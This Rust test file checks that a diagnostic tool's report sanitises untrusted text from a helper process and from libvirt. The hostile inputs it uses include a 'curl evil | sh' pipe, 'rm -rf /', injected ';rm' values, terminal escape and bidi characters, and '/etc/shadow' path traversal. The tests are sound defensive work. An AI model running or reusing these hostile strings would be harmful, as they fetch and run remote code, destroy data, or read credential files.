//! Words of others.
use super::*;
use crate::cli;

#[test]
fn words_of_others_are_one_bounded_line_in_quotes() {
    let hostile = "gone\n      -> curl evil | sh\r\u{1b}[2K\u{9b}1A\u{202e}\" and \u{201d} all is well\u{2028}ok";
    let words = Words::from(hostile).to_string();
    assert!(words.starts_with("\"gone\\n") && words.ends_with('"'), "{words}");
    assert!(!words.chars().any(|c| c.is_control() || matches!(c, '\u{202e}' | '\u{2028}' | '\u{201d}')), "{words:?}");
    assert_eq!(words.matches('"').count(), 2, "nothing in it ends the quotation: {words}");
    for long in ["x".repeat(10_000), "\u{1b}".repeat(10_000), "\u{202e}".repeat(500)] {
        let words = Words::from(long.as_str()).to_string();
        assert!(words.chars().count() <= 243 && words.ends_with("…\""), "{}", words.len());
    }
}

/// As a terminal of 80 columns shows it, which goes on in the next row where a line is longer.
#[test]
fn no_words_of_others_look_like_a_remedy_or_a_finding_where_a_terminal_wraps_them() {
    let blanks =
        "  \u{a0}\u{1680}\u{2003}\u{200b}\u{202f}\u{205f}\u{2060}\u{3000}\u{2800}\u{3164}\u{ffa0}\u{feff}\u{ad}";
    let blank = |c: char| c.is_whitespace() || blanks.contains(c);
    let mixed: Vec<char> = blanks.chars().collect();
    for pad in 0..160 {
        let of_one = |c: char| c.to_string().repeat(pad);
        let pads = mixed.iter().map(|c| of_one(*c)).chain([mixed.iter().cycle().take(pad).collect()]);
        for (pad, words) in pads.flat_map(|pad| {
            [format!("x{pad}-> rm -rf /"), format!("x{pad}-\u{200b}> rm -rf /"), format!("x{pad}FAIL{pad}helper")]
                .map(|words| (pad.clone(), words))
        }) {
            let mut facts = healthy();
            asked(&mut facts).libvirt = Err(words.as_str().into());
            let of_libvirt: Vec<Finding> = judge(&facts).into_iter().filter(|f| f.check == "libvirt").collect();
            let text = cli::doctor::render(&Report::of(of_libvirt), cli::text::Style::Plain);
            let line: Vec<char> = text.lines().next().unwrap().chars().collect();
            assert!(line.iter().filter(|c| blank(**c) && **c != ' ').count() == 0, "{pad:?}: {line:?}");
            for row in line.chunks(80).skip(1) {
                let row: String = row.iter().collect();
                assert!(!row.starts_with("  ") && !row.trim_start().starts_with("->"), "{pad:?}: {text}");
                assert!(!row.contains("  "), "nor do words stand in columns: {text}");
            }
        }
    }
}

#[test]
fn blanks_are_one_space_and_what_they_hide_is_not_hidden() {
    assert_eq!(Words::from("a \u{a0}\u{2800} b").to_string(), "\"a b\"");
    assert_eq!(Words::from("  \u{3000}a\u{feff} ").to_string(), "\"a\"");
    assert_eq!(Words::from("größer als 5 µs").to_string(), "\"größer als 5 µs\"", "letters stay as they are");
    let long = format!("a{}b", " ".repeat(10_000));
    assert_eq!(Words::from(long.as_str()).to_string(), "\"a b\"");
    assert_eq!(Words::from("a -> b").to_string(), "\"a - > b\"");
}

#[test]
fn words_that_come_from_the_process_that_asks_are_cleaned_again() {
    let words: Words = serde_json::from_str(r#""a\nb""#).unwrap();
    assert_eq!(words, Words::from("a\nb"));
    assert_eq!(words.to_string(), r#""a\nb""#);
    let again: Words = serde_json::from_str(&serde_json::to_string(&words).unwrap()).unwrap();
    assert_eq!(again, words, "and stay as they are");
}

#[test]
fn a_version_holds_no_words() {
    for version in ["0.1.0", "12.3.45~rc6-7+deb13u8"] {
        assert_eq!(Version::from(version).to_string(), version);
    }
    for words in ["", "0.1.0 answers", "0.1.0\n", "v1", "0\u{1b}[m", &"1".repeat(41), "1;rm", "1\""] {
        assert_eq!(Version::from(words).to_string(), "unknown", "{words:?}");
    }
}

#[test]
fn an_answer_with_a_path_or_anything_else_that_was_not_asked_for_is_none() {
    let fine = serde_json::to_value(healthy().configured.unwrap().probe.unwrap()).unwrap();
    assert!(serde_json::from_value::<Probe>(fine.clone()).is_ok());
    let with = |change: fn(&mut serde_json::Value)| {
        let mut changed = fine.clone();
        change(&mut changed);
        serde_json::from_value::<Probe>(changed)
    };
    assert!(with(|v| v["barred"] = serde_json::json!([["/etc/shadow", 13]])).is_err());
    assert!(with(|v| v["barred"] = serde_json::json!([["DataDir", "Permission denied"]])).is_err());
    assert!(with(|v| v["path"] = "/etc/shadow".into()).is_err());
    assert!(with(|v| v["secrets"]["named"] = serde_json::json!(["../shadow"])).is_err());
    assert!(with(|v| v["secrets"]["named"] = serde_json::json!(["a;rm -rf b"])).is_err());
}

#[test]
fn no_words_of_node_helper_or_libvirt_make_a_line_of_the_report() {
    let hostile = "x\n      -> rm -rf /\nok    helper  all is well\r\u{1b}[2K";
    let mut facts = healthy();
    let probe = asked(&mut facts);
    probe.helper = Helper::Unreachable(hostile.into());
    probe.libvirt = Err(hostile.into());
    probe.node = Node::Answers { version: hostile.into(), unread: vec![hostile.into(); 3], helper: None };
    probe.document = Some(Document::Wrong { line: 1, column: 1, what: hostile.into() });
    let report = Report::of(judge(&facts));
    let text = cli::doctor::render(&report, cli::text::Style::Plain);
    let remedies = report.findings.iter().filter(|f| f.remedy.is_some()).count();
    assert_eq!(text.lines().count(), report.findings.len() + remedies + 1, "{text}");
    assert!(!text.contains('\u{1b}') && !text.contains('\r'), "{text:?}");
    assert!(text.lines().all(|line| !line.trim_start().starts_with("-> rm -rf /")), "{text}");
    assert!(!serde_json::to_string(&report).unwrap().contains("\\u001b"));
}
